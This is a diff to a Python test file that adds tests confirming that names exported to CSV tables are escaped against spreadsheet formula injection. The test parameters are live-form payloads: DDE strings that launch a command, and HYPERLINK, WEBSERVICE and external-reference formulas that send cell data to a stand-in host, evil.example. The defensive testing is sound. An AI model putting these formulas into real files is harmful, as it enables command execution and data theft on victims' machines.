@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import fcntl
 import io
 import json
@@ -101,6 +102,27 @@ def test_names_are_escaped_in_tables_pages_and_latex(word: str, capsys) -> None:
         assert b"b\xffd" in content  # a file is found again by its name
     say(word)
     assert not obeyed(capsys.readouterr().out)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+WEBSERVICE(A1)",
+        "='//evil.example/[a.xls]b'!c",
+    ],
+)
+def test_a_name_in_a_table_calls_nothing_when_a_spreadsheet_opens_it(name: str) -> None:
+    (heading,), (cell, number) = csv.reader(as_table([name], [[name, -0.5]]).decode().splitlines())
+    assert heading == cell == f"\\x{ord(name[0]):02x}{name[1:]}" and number == "-0.5"
+
+
+@pytest.mark.parametrize("name", ["-rf", "@home", "+1 (six)", "-0.5", "=)", "a=f(x)|b!", ""])
+def test_a_name_in_a_table_that_calls_nothing_stays_as_it_is(name: str) -> None:
+    assert [[name, "x"]] == [*csv.reader(as_table([name, "x"], []).decode().splitlines())]
 
 
 def test_latex_prints_every_sign_of_ascii() -> None:
